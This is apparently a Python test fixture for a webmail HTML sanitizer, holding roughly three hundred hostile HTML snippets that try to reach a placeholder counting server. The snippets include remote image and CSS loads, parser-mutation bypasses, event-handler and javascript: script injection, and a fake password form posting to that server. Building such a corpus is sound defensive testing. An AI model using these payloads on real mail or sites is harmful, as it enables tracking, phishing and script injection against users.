"""HTML that tries to reach `{to}`, to run something or to look like something else, by every way
that is known. `{to}` is an address of a server that counts what comes to it.
"""

from __future__ import annotations

from tests.webmail.hostile_twists import TWISTS

IMAGES = {
    "img": '<img src="{to}/a.png">',
    "img over http": '<img src="http:{to}/a.png" width=1 height=1>',
    "img srcset": '<img srcset="{to}/a.png 1x, {to}/b.png 2x">',
    "img sizes": '<img src="data:," srcset="{to}/a.png 100w" sizes="100vw">',
    "img lazy": '<img loading="eager" fetchpriority="high" src=\'{to}/a.png\'>',
    "img lowsrc": '<img lowsrc="{to}/a.png" dynsrc="{to}/b.png" src="data:,">',
    "img attributionsrc": '<img attributionsrc="{to}/a" src="data:,">',
    "img longdesc": '<img longdesc="{to}/a" usemap="{to}/b" src="data:,">',
    "picture": '<picture><source srcset="{to}/a.png"><img src="data:,"></picture>',
    "image tag": '<image src="{to}/a.png">',
    "input image": '<input type="image" src="{to}/a.png">',
    "body background": '<body background="{to}/a.png">',
    "table background": '<table background="{to}/a.png"><tr><td background="{to}/b.png">x</table>',
    "img with tab": '<img src="ht\ttps:{to}/a.png">',
    "img without quote": "<img src={to}/a.png onerror=fetch('{to}/e')>",
}
"""Ways to load an image: each of them may leave something of the plain `img` when asked for."""

STYLES = {
    "url": '<p style="background:url({to}/a)">x',
    "url quoted": "<p style=\"background-image:url('{to}/a')\">x",
    "url escaped": '<p style="background:\\75\\72\\6c({to}/a)">x',
    "url with comment": '<p style="background:u/**/rl({to}/a)">x',
    "url in entities": '<p style="background:&#117;rl({to}/a)">x',
    "url upper case": '<p style="BACKGROUND:URL({to}/a)">x',
    "image-set": "<p style=\"background:image-set('{to}/a' 1x)\">x",
    "webkit image-set": '<p style="background:-webkit-image-set(url({to}/a) 1x)">x',
    "image()": "<p style=\"background:image('{to}/a')\">x",
    "cross-fade": '<p style="background:cross-fade(url({to}/a),url({to}/b),50%)">x',
    "var": '<p style="--x:url({to}/a);background:var(--x)">x',
    "src()": "<p style=\"--x:'{to}/a';background:src(var(--x))\">x",
    "cursor": '<p style="cursor:url({to}/a),auto;width:900px;height:900px">x',
    "list-style": '<ul style="list-style:url({to}/a)"><li>x</ul>',
    "content": '<p style="content:url({to}/a)">x',
    "border-image": '<p style="border:9px solid;border-image:url({to}/a) 1">x',
    "mask": '<p style="-webkit-mask:url({to}/a);mask-image:url({to}/b)">x',
    "filter": '<p style="filter:url({to}/a#b);clip-path:url({to}/c#d)">x',
    "shape-outside": '<p style="float:left;shape-outside:url({to}/a)">x',
    "attr in style": '<font face="x;background:url({to}/a)" color="url({to}/b)">x</font>',
    "broken out of style": '<p style="color:red\'}} * {{background:url({to}/a)">x',
    "style tag": "<style>body{{background:url({to}/a)}}</style>x",
    "import": "<style>@import '{to}/a.css'; @import url({to}/b.css);</style>",
    "import escaped": "<style>@\\69mport '{to}/a.css';</style>",
    "font-face": "<style>@font-face{{font-family:f;src:url({to}/f)}}p{{font:9px f}}</style><p>x",
    "attribute selector": "<style>input[value^=a]{{background:url({to}/a)}}</style>"
    "<input value=abc>",
    "namespace": "<style>@namespace url({to}/a);@charset 'x';</style>",
    "layer": "<style>@import url({to}/a) layer(x) supports(display:grid);</style>",
    "style in svg": "<svg><style>@import '{to}/a';</style></svg>",
    "style after noscript": "<noscript><p title='</noscript><style>*{{background:url({to}/a)}}"
    "</style>'></noscript>",
}

LOADS = {
    "link stylesheet": '<link rel="stylesheet" href="{to}/a.css">',
    "link preload": '<link rel="preload" as="image" href="{to}/a">',
    "link modulepreload": '<link rel="modulepreload" href="{to}/a.js">',
    "link prefetch": '<link rel="prefetch" href="{to}/a">',
    "link preconnect": '<link rel="preconnect" href="{to}">',
    "link dns-prefetch": '<link rel="dns-prefetch" href="{to}">',
    "link icon": '<link rel="icon" href="{to}/favicon.ico">',
    "link manifest": '<link rel="manifest" href="{to}/m.json">',
    "link pingback": '<link rel="pingback prerender next" href="{to}/a">',
    "link imagesrcset": '<link rel="preload" as="image" imagesrcset="{to}/a 1x">',
    "iframe": '<iframe src="{to}/a"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<img src={to}/a>"></iframe>',
    "nested srcdoc": "<iframe srcdoc=\"<iframe srcdoc='<img src={to}/a>'></iframe>\"></iframe>",
    "frameset": '<frameset><frame src="{to}/a"></frameset>',
    "object": '<object data="{to}/a"></object>',
    "object data html": '<object data="data:text/html,<img src={to}/a>"></object>',
    "embed": '<embed src="{to}/a">',
    "applet": '<applet code="{to}/a" archive="{to}/b"></applet>',
    "video": '<video src="{to}/a" poster="{to}/b" autoplay></video>',
    "audio": '<audio src="{to}/a" autoplay></audio>',
    "track": '<video><source src="{to}/a"><track default src="{to}/b"></video>',
    "portal": '<portal src="{to}/a"></portal>',
    "fencedframe": "<fencedframe src='{to}/a'></fencedframe>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url={to}/a">',
    "meta csp report": '<meta http-equiv=content-security-policy content="report-uri {to}/a">',
    "base": '<base href="{to}/"><img src="a.png"><a href="b">x</a>',
    "speculation rules": '<script type="speculationrules">{{"prefetch":[{{"urls":["{to}/a"]}}]}}'
    "</script>",
    "import map": '<script type="importmap">{{"imports":{{"a":"{to}/a"}}}}</script>',
    "html manifest": '<html manifest="{to}/a">x',
    "ping": '<a href="#x" ping="{to}/a">x</a>',
    "blockquote cite": '<blockquote cite="{to}/a">x</blockquote>',
    "template shadow": '<div><template shadowrootmode=open><img src="{to}/a"></template></div>',
    "xml stylesheet": '<?xml-stylesheet href="{to}/a.css"?><p>x',
    "bgsound": '<bgsound src="{to}/a"><layer src="{to}/b">',
    "menuitem icon": '<menuitem icon="{to}/a"><command icon="{to}/b">',
}

VECTORS = {
    "svg image": '<svg><image href="{to}/a" xlink:href="{to}/b" width=9 height=9 /></svg>',
    "svg use": '<svg><use href="{to}/a#b"/></svg>',
    "svg feimage": '<svg><filter id=f><feImage href="{to}/a"/></filter></svg>',
    "svg filter": '<svg><g filter="url({to}/a#b)" mask="url({to}/c#d)" /></svg>',
    "svg onload": "<svg onload=\"fetch('{to}/a')\"></svg>",
    "svg animate": '<svg><a><animate attributeName=href values="{to}/a"/></a>'
    "<image><set attributeName=href to='{to}/b'></image></svg>",
    "svg script": '<svg><script href="{to}/a"/></svg>',
    "svg foreignobject": '<svg><foreignObject><img src="{to}/a"></foreignObject></svg>',
    "svg as data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{to}/a'/></svg>\">",
    "math link": '<math href="{to}/a"><mtext xlink:href="{to}/b">x</mtext></math>',
    "math mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    '&lt;img src={to}/a onerror=1&gt;">',
    "math annotation": '<math><annotation-xml encoding="text/html"><img src="{to}/a">'
    "</annotation-xml></math>",
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src={to}/a>",
    "comment mutation": "<!--><img src={to}/a>-->",
    "comment bang": "<!--x--!><img src={to}/a>",
    "cdata": "<svg><![CDATA[><img src={to}/a>]]></svg>",
    "title mutation": "<svg></p><title><a id='</title><img src={to}/a>'>",
    "textarea": "<textarea><img title='</textarea><img src={to}/a>'>",
    "xmp": "<xmp><p title='</xmp><img src={to}/a>'>",
    "plaintext": "<plaintext><img src={to}/a>",
    "select mutation": "<select><template><style><!--</style><a rel='--></style></template>"
    "</select><img src={to}/a>'>",
    "half a tag": '<img src="{to}/a',
    "nul in tag": '<im\0g src="{to}/a"><img\0src="{to}/b">',
    "slash": '<img/src="{to}/a"/onerror=alert(1)//',
    "entity": '<img src="&#104;ttps:{to}/a">',
}

SCRIPTS = {
    "script": "<script>fetch('{to}/a')</script>",
    "script src": '<script src="{to}/a.js"></script>',
    "script defer": '<script type=module async src="{to}/a.js"></script>',
    "img onerror": "<img src=x onerror=\"new Image().src='{to}/a'\">",
    "onfocus": "<input autofocus onfocus=\"fetch('{to}/a')\">",
    "tabindex focus": "<p tabindex=0 autofocus onfocus=\"fetch('{to}/a')\">x",
    "details ontoggle": "<details open ontoggle=\"fetch('{to}/a')\">x</details>",
    "animation event": "<p style='animation:x' onanimationstart=\"fetch('{to}/a')\">x",
    "marquee": "<marquee onstart=\"fetch('{to}/a')\">x</marquee>",
    "body onload": "<body onload=\"fetch('{to}/a')\" onpageshow=\"fetch('{to}/b')\">",
    "popover": "<button popovertarget=p>x</button><p id=p popover "
    "onbeforetoggle=\"fetch('{to}/a')\">x",
    "form submits itself": '<form id=f action="{to}/a"><input name=q value=x></form>'
    "<script>f.submit()</script>",
    "form by click": '<form action="{to}/a" method=post><input name=password>'
    '<button formaction="{to}/b">Sign in</button></form>',
    "form by label": '<label for=b>here</label><form><button id=b formaction="{to}/a"></form>',
    "isindex": '<isindex action="{to}/a" prompt=x type=submit>',
    "javascript link": "<a href=\"javascript:fetch('{to}/a')\">x</a>",
    "javascript in entities": "<a href=\"&#106;avascript:fetch('{to}/a')\">x</a>",
    "javascript with tab": "<a href=\"java\tscript:fetch('{to}/a')\">x</a>",
    "vbscript link": '<a href="vbscript:x">x</a>',
    "data link": '<a href="data:text/html,<script>1</script>">x</a>',
    "blob link": '<a href="blob:https://webmail.example.com/x">x</a>',
    "area": '<map name=m><area href="javascript:1" shape=default></map><img usemap=#m>',
    "top link": '<a href="{to}/a" target="_top">x</a>',
    "opener link": '<a href="{to}/a" target="x" rel="opener">x</a>',
}

ALL = {
    f"{kind}: {name}": html
    for kind, each in (
        *(("image", IMAGES), ("style", STYLES), ("load", LOADS)),
        *(("vector", VECTORS), ("script", SCRIPTS)),
    )
    for name, html in each.items()
} | TWISTS
"""Nearly three hundred."""


def hostile(name: str, to: str) -> str:
    """Return the HTML of one vector; every address in it begins with `to`."""
    return ALL[name].format(to=to)
